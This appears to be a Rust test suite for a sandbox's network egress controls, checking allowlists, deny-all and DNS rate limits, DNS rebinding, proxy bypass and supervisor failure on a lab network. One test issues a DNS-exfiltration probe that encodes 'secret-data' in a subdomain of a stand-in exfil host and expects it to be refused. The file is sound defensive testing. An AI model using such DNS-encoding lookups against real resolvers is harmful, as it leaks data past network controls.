//! Egress cases every tier with an egress boundary runs, on a real network
//! ([`crate::netlab`]): every refusal is shown next to a positive control
//! through the same path, so a "blocked" result cannot come from a network
//! that was never there. Sandboxes need `curl` and `getent` (the host view
//! on `local`; [`crate::docker::TEST_CURL_IMAGE`] on `docker`).

// Test code: a panic here is a failed trial (libtest-mimic catches it).
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::time::Duration;

use namzu::egress::{EgressConfig, EgressPolicy, HostPattern, HostRule, PolicyError};
use namzu::{Error, Sandbox, SandboxSpec};

use crate::netlab::{HOST_PUB, PRIVATE, PUB1, PUB2, STREAM_PORT};

mod attacks;
mod common;
mod handoff;
mod limits;
use crate::util::Ctx;
use crate::Outcome;
use attacks::*;
pub use common::{allow, curl, in_background, sh, Connect, Env};
use common::{check, sandbox, sandbox_of};

/// A case, by name.
pub type Case = fn(&Env) -> futures::future::BoxFuture<'_, Outcome>;

/// Every case.
pub fn cases() -> Vec<(&'static str, Case)> {
    vec![
        ("allowlist_admits_its_names_and_refuses_the_rest", |e| {
            Box::pin(allowlist_admits_its_names_and_refuses_the_rest(e))
        }),
        ("ports_narrow_an_allowlisted_host", |e| {
            Box::pin(ports_narrow_an_allowlisted_host(e))
        }),
        ("public_internet_never_reaches_inside", |e| {
            Box::pin(public_internet_never_reaches_inside(e))
        }),
        ("traffic_that_ignores_the_proxy_has_no_route", |e| {
            Box::pin(traffic_that_ignores_the_proxy_has_no_route(e))
        }),
        ("no_network_resolves_nothing_and_deny_all_only_resolves", |e| {
            Box::pin(no_network_resolves_nothing_and_deny_all_only_resolves(e))
        }),
        ("a_live_change_applies_at_once_and_closes_refused_connections", |e| {
            Box::pin(a_live_change_applies_at_once_and_closes_refused_connections(e))
        }),
        (
            "link_local_and_metadata_are_refused_under_every_policy_unless_named",
            |e| Box::pin(link_local_and_metadata_are_refused_under_every_policy_unless_named(e)),
        ),
        ("egress_connections_are_bounded_and_one_supervisor_serves", |e| {
            Box::pin(egress_connections_are_bounded_and_one_supervisor_serves(e))
        }),
        ("the_plain_http_proxy_sends_only_the_checked_host", |e| {
            Box::pin(the_plain_http_proxy_sends_only_the_checked_host(e))
        }),
        ("the_supervisor_survives_running_out_of_descriptors", |e| {
            Box::pin(the_supervisor_survives_running_out_of_descriptors(e))
        }),
        ("a_connect_in_flight_across_a_tightening_does_not_survive_it", |e| {
            Box::pin(a_connect_in_flight_across_a_tightening_does_not_survive_it(e))
        }),
        ("the_agents_egress_limits_hold", |e| {
            Box::pin(limits::the_agents_egress_limits_hold(e))
        }),
        ("commands_get_the_proxy_environment", |e| {
            Box::pin(limits::commands_get_the_proxy_environment(e))
        }),
        ("bad_policies_are_refused_by_name", |e| {
            Box::pin(bad_policies_are_refused_by_name(e))
        }),
        ("a_dead_supervisor_fails_closed_and_connect_restarts_it", |e| {
            Box::pin(a_dead_supervisor_fails_closed_and_connect_restarts_it(e))
        }),
        (
            "an_allowed_connection_is_handed_to_the_host_where_the_link_can_carry_it",
            |e| Box::pin(handoff::an_allowed_connection_is_handed_to_the_host_where_the_link_can_carry_it(e)),
        ),
    ]
}

pub async fn allowlist_admits_its_names_and_refuses_the_rest(env: &Env) -> Outcome {
    let sb = sandbox(env, allow(&[".allowed.test"])).await?;
    // Positive controls first: the same proxy path reaches the lab.
    let (codes, body) = curl(&sb, "http://allowed.test/").await;
    check(
        "allowed name",
        codes.starts_with("200") && body.trim() == format!("served by {PUB1}:80"),
        (&codes, &body),
    )?;
    let (codes, body) = curl(&sb, "http://api.allowed.test/").await;
    check(
        "subdomain of .allowed.test",
        codes.starts_with("200") && body.contains(PUB2),
        (&codes, &body),
    )?;
    let (codes, body) = curl(&sb, "https://tls.allowed.test/").await;
    check(
        "TLS through CONNECT, name verified",
        codes == "200 200" && body.contains("s_server"),
        (&codes, body.len()),
    )?;
    let (codes, body) = curl(&sb, "--proxy socks5h://127.0.0.1:1080 http://allowed.test/").await;
    check(
        "SOCKS5",
        codes.starts_with("200") && body.contains(PUB1),
        (&codes, &body),
    )?;
    // Then the refusals.
    for url in [
        "http://evil-allowed.test/",
        "http://other.test/",
        &format!("http://{PUB1}/"),
    ] {
        let (codes, body) = curl(&sb, url).await;
        check(
            url,
            codes.starts_with("403") && body.contains("refused"),
            (&codes, &body),
        )?;
    }
    let (codes, _) = curl(&sb, "https://other.test/").await;
    check("CONNECT to other.test", codes == "000 403", &codes)?;
    // A permitted name that resolves inside: DNS rebinding.
    let (codes, body) = curl(&sb, "http://internal.allowed.test/").await;
    check(
        "name resolving to a private address",
        codes.starts_with("403") && body.contains(PRIVATE),
        (&codes, &body),
    )?;
    let (code, out, err) = sh(&sb, "curl -s -m 10 --proxy socks5h://127.0.0.1:1080 http://other.test/").await;
    check("SOCKS5 refusal", code != 0 && out.is_empty(), (code, &out, &err))?;
    // Every decision is in the supervisor's log, with the sandbox's id.
    let log = std::fs::read_to_string((env.log_of)(sb.id())).unwrap_or_default();
    let decided = |host: &str, verdict: &str| {
        log.lines().any(|l| {
            log_field(l, "sandbox") == Some(sb.id())
                && log_field(l, "host") == Some(host)
                && log_field(l, "verdict") == Some(verdict)
        })
    };
    check(
        "decision log",
        decided("other.test", "refused")
            && decided("allowed.test", "allowed")
            && !decided("other.test", "allowed")
            && !decided("allowed.test", "refused"),
        &log,
    )?;
    sb.destroy().await.ctx("destroy")
}

/// The value of `name=` in a log line of `tracing`'s format (quotes
/// stripped); `None` when the field is absent.
pub fn log_field<'a>(line: &'a str, name: &str) -> Option<&'a str> {
    let at = line.find(&format!(" {name}="))? + name.len() + 2;
    let rest = &line[at..];
    match rest.strip_prefix('"') {
        Some(q) => q.split('"').next(),
        None => rest.split_whitespace().next(),
    }
}

pub async fn ports_narrow_an_allowlisted_host(env: &Env) -> Outcome {
    let policy = EgressPolicy::Allowlist {
        hosts: vec![HostRule::parse("allowed.test", Some(vec![80])).unwrap()],
    };
    let sb = sandbox(env, policy).await?;
    let (codes, _) = curl(&sb, "http://allowed.test/").await;
    check("port 80", codes.starts_with("200"), &codes)?;
    let (codes, body) = curl(&sb, "http://allowed.test:8080/").await;
    check(
        "port 8080",
        codes.starts_with("403") && body.contains("8080"),
        (&codes, &body),
    )?;
    sb.destroy().await.ctx("destroy")
}

pub async fn public_internet_never_reaches_inside(env: &Env) -> Outcome {
    let except = namzu::egress::policy::parse_cidrs(&[format!("{PUB2}/32")]).map_err(|e| e.to_string())?;
    let sb = sandbox(env, EgressPolicy::PublicInternet { except_cidrs: except }).await?;
    let (codes, body) = curl(&sb, &format!("http://{PUB1}/")).await;
    check(
        "public IP literal",
        codes.starts_with("200") && body.contains(PUB1),
        (&codes, &body),
    )?;
    let (codes, _) = curl(&sb, "http://allowed.test:8080/").await;
    check("public name", codes.starts_with("200"), &codes)?;
    for url in [
        "http://internal.allowed.test/",
        &format!("http://{PRIVATE}/"),
        "http://api.allowed.test/",
    ] {
        let (codes, body) = curl(&sb, url).await;
        check(url, codes.starts_with("403"), (&codes, &body))?;
    }
    sb.destroy().await.ctx("destroy")
}

pub async fn traffic_that_ignores_the_proxy_has_no_route(env: &Env) -> Outcome {
    let sb = sandbox(env, EgressPolicy::AllowAll).await?;
    let (codes, _) = curl(&sb, &format!("http://{PUB1}/")).await;
    check("through the proxy", codes.starts_with("200"), &codes)?;
    // Allow-all is not the host: its own address and its loopback stay out.
    let (codes, body) = curl(&sb, &format!("http://{HOST_PUB}:8080/")).await;
    check(
        "the host's own address",
        codes.starts_with("403") && body.contains("host's own"),
        (&codes, &body),
    )?;
    let (codes, body) = curl(&sb, "--noproxy '' --proxy http://127.0.0.1:3128 http://127.0.0.1:22/").await;
    check(
        "the host's loopback",
        codes.starts_with("403") && body.contains("loopback"),
        (&codes, &body),
    )?;
    let (code, out, err) = sh(&sb, &format!("curl -sS -m 5 --noproxy '*' http://{PUB1}/")).await;
    // 7: could not connect (no route), not a timeout and not a response.
    check("raw TCP", code == 7 && out.is_empty(), (code, &out, &err))?;
    sb.destroy().await.ctx("destroy")
}

pub async fn no_network_resolves_nothing_and_deny_all_only_resolves(env: &Env) -> Outcome {
    let sb = sandbox(env, EgressPolicy::NoNetwork).await?;
    let (code, out, _) = sh(&sb, "getent hosts allowed.test").await;
    check("no-network resolves nothing", code == 2 && out.is_empty(), (code, &out))?;
    let (codes, _) = curl(&sb, "http://allowed.test/").await;
    check("no-network connects nowhere", codes.starts_with("403"), &codes)?;
    sb.destroy().await.ctx("destroy")?;

    let sb = sandbox(env, EgressPolicy::DenyAll).await?;
    let (code, out, _) = sh(&sb, "getent hosts allowed.test").await;
    check(
        "deny-all resolves a listed name",
        code == 0 && out.starts_with(PUB1),
        (code, &out),
    )?;
    let (codes, _) = curl(&sb, "http://allowed.test/").await;
    check("deny-all connects nowhere", codes.starts_with("403"), &codes)?;
    // Audit item 10: a name nobody listed carries data out by being asked;
    // under deny-all it is refused before any resolver sees it.
    let id = sb.id().to_owned();
    let (code, out, _) = sh(&sb, "getent hosts c2VjcmV0LWRhdGE.exfil.example").await;
    check(
        "deny-all refuses an unlisted name",
        code == 2 && out.is_empty(),
        (code, &out),
    )?;
    let log = std::fs::read_to_string((env.log_of)(&id)).unwrap_or_default();
    check(
        "the refusal is logged",
        log.lines()
            .any(|l| l.contains("c2vjcmv0lwrhdge.exfil.example") && l.contains("refused")),
        log.lines().filter(|l| l.contains("exfil")).collect::<Vec<_>>(),
    )?;
    sb.destroy().await.ctx("destroy")?;

    // The query rate is bounded. A lookup first (the control), then 40
    // concurrent ones: the resolver refuses past 5 a second and says so in
    // the log, and what it answered stays within the rate. (Counted at the
    // resolver: glibc asks A and AAAA and retries refusals.)
    let sb = sandbox_of(
        env,
        EgressConfig {
            policy: EgressPolicy::AllowAll,
            dns_queries_per_sec: Some(5),
            ..Default::default()
        },
    )
    .await?;
    let id = sb.id().to_owned();
    let (code, out, _) = sh(&sb, "getent hosts allowed.test").await;
    check(
        "a lookup under the limit (control)",
        code == 0 && out.starts_with(PUB1),
        (code, &out),
    )?;
    tokio::time::sleep(Duration::from_millis(1100)).await;
    let started = std::time::Instant::now();
    sh(
        &sb,
        "for i in $(seq 40); do getent hosts allowed.test >/dev/null & done; wait",
    )
    .await;
    let seconds = started.elapsed().as_secs() + 1;
    let log = std::fs::read_to_string((env.log_of)(&id)).unwrap_or_default();
    check(
        "the rate refusal is logged",
        log.contains("dns_queries_per_sec"),
        log.lines().rev().take(5).collect::<Vec<_>>(),
    )?;
    let answered = log
        .lines()
        .filter(|l| l.contains("verdict=\"resolved\"") || l.contains("verdict=resolved"))
        .count() as u64;
    check(
        "answers within the rate",
        answered >= 1 && answered <= 1 + 5 * (seconds + 1),
        (answered, seconds),
    )?;
    sb.destroy().await.ctx("destroy")
}

pub async fn a_live_change_applies_at_once_and_closes_refused_connections(env: &Env) -> Outcome {
    let sb: Sandbox = sandbox(env, allow(&[".allowed.test"])).await?;
    let (codes, _) = curl(&sb, "http://other.test/").await;
    check("other.test before", codes.starts_with("403"), &codes)?;
    // A connection that stays open: a tick every 100 ms, for up to 60 s,
    // on a path of its own (the lab's server reports its close by path).
    let path = format!("/live-change-{}", rand::random::<u64>());
    let streaming = in_background(
        &sb,
        format!("curl -sN -m 60 http://allowed.test:{STREAM_PORT}{path}; echo rc=$?"),
    );
    let mut open = 0;
    for _ in 0..100 {
        open = sb.network().policy().await.map_err(|e| e.to_string())?.1;
        if open > 0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    check("the stream is open", open == 1, open)?;
    tokio::time::sleep(Duration::from_millis(300)).await;
    sb.network()
        .set_policy(allow(&["other.test"]))
        .await
        .map_err(|e| e.to_string())?;
    // Closed before `set` returned: no poll, the very next look.
    let open_after = sb.network().policy().await.map_err(|e| e.to_string())?.1;
    check(
        "no refused connection open once set returns",
        open_after == 0,
        open_after,
    )?;
    // And the lab's server saw its end go (the proxy closed the upstream).
    let mut seen = false;
    for _ in 0..40 {
        if crate::netlab::stream_closed_by_peer(&path) {
            seen = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    check("the lab server saw the connection closed", seen, &path)?;
    let (code, out, err) = tokio::time::timeout(Duration::from_secs(50), streaming)
        .await
        .map_err(|_| "the refused connection was not closed".to_owned())?
        .unwrap();
    // Ticks came, then the connection ended by the change, not by curl's
    // 60 s limit (exit 28).
    check(
        "stream closed by the change",
        code == 0 && out.contains("tick 1") && !out.contains("rc=28"),
        (code, &out, &err),
    )?;
    let (codes, _) = curl(&sb, "http://allowed.test/").await;
    check("allowed.test after", codes.starts_with("403"), &codes)?;
    let (codes, body) = curl(&sb, "http://other.test/").await;
    check(
        "other.test after",
        codes.starts_with("200") && body.contains(PUB2),
        (&codes, &body),
    )?;
    // The last request's splice is torn down just after curl returns.
    let (mut config, mut open) = sb.network().policy().await.map_err(|e| e.to_string())?;
    for _ in 0..100 {
        if open == 0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
        (config, open) = sb.network().policy().await.map_err(|e| e.to_string())?;
    }
    check(
        "policy shown",
        config.policy == allow(&["other.test"]) && open == 0,
        (&config.policy, open),
    )?;
    sb.destroy().await.ctx("destroy")
}

pub async fn bad_policies_are_refused_by_name(env: &Env) -> Outcome {
    let forged = EgressPolicy::Allowlist {
        hosts: vec![HostRule {
            host: HostPattern::Domain("com".into()),
            ports: None,
        }],
    };
    let err = (env.factory)(SandboxSpec {
        egress: EgressConfig {
            policy: forged.clone(),
            ..Default::default()
        },
        ..Default::default()
    })
    .await
    .err();
    check(
        "create",
        matches!(&err, Some(Error::EgressPolicy(PolicyError::PublicSuffix { suffix, .. })) if suffix == "com"),
        &err,
    )?;
    let sb = sandbox(env, allow(&["allowed.test"])).await?;
    let err = sb.network().set_policy(forged).await.err();
    check(
        "set_network_policy",
        matches!(&err, Some(Error::EgressPolicy(PolicyError::PublicSuffix { .. }))),
        &err,
    )?;
    // The old policy still holds.
    let (codes, _) = curl(&sb, "http://allowed.test/").await;
    check("old policy kept", codes.starts_with("200"), &codes)?;
    sb.destroy().await.ctx("destroy")
}

pub async fn a_dead_supervisor_fails_closed_and_connect_restarts_it(env: &Env) -> Outcome {
    let sb = sandbox(env, allow(&[".allowed.test"])).await?;
    let (codes, _) = curl(&sb, "http://allowed.test/").await;
    check("before", codes.starts_with("200"), &codes)?;
    let pid = limits::supervisor_pid(env, sb.id())?;
    nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGKILL).map_err(|e| e.to_string())?;
    let pid = pid.as_raw();
    // Wait until it is gone (it is nobody's child here, or ours: either way
    // its /proc entry goes or turns zombie).
    for _ in 0..200 {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        if stat.is_empty() || stat.contains(") Z") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let (codes, body) = curl(&sb, "http://allowed.test/").await;
    check(
        "no supervisor: refused",
        codes.starts_with("403") && body.contains("no egress service"),
        (&codes, &body),
    )?;
    let err = sb.network().policy().await.err();
    check(
        "no supervisor: typed",
        matches!(err, Some(Error::EgressUnavailable { .. })),
        &err,
    )?;
    // A connect brings it back, with the policy it had.
    let again = (env.connect)(sb.id().to_owned()).await.map_err(|e| e.to_string())?;
    let (codes, _) = curl(&again, "http://allowed.test/").await;
    check("after connect", codes.starts_with("200"), &codes)?;
    let (codes, _) = curl(&again, "http://other.test/").await;
    check("after connect, same policy", codes.starts_with("403"), &codes)?;
    sb.destroy().await.ctx("destroy")
}

/// Every case as a libtest-mimic trial named `<tier>::<case>`; with no
/// environment, each is reported ignored with why.
pub fn trials(tier: &str, env: Result<Env, String>) -> Vec<libtest_mimic::Trial> {
    cases()
        .into_iter()
        .map(|(name, case)| {
            let env = env.clone();
            let ignored = env.as_ref().err().cloned();
            let t = libtest_mimic::Trial::test(format!("{tier}::{name}"), move || {
                let Ok(env) = env else { return Ok(()) };
                let rt = tokio::runtime::Runtime::new().map_err(|e| libtest_mimic::Failed::from(e.to_string()))?;
                rt.block_on(case(&env)).map_err(libtest_mimic::Failed::from)
            });
            match ignored {
                Some(why) => t.with_ignored_flag(true).with_kind(format!("unavailable: {why}")),
                None => t,
            }
        })
        .collect()
}

/// Runs `trials`; a missing environment (`why`) fails the run instead when
/// `NAMZU_REQUIRE_NET=1`.
pub fn run(trials: Vec<libtest_mimic::Trial>, why: Option<&str>) -> std::process::ExitCode {
    let args = libtest_mimic::Arguments::from_args();
    if let Some(why) = why {
        if std::env::var_os("NAMZU_REQUIRE_NET").is_some() {
            eprintln!("egress: {why}");
            return std::process::ExitCode::FAILURE;
        }
    }
    libtest_mimic::run(&args, trials).exit_code()
}
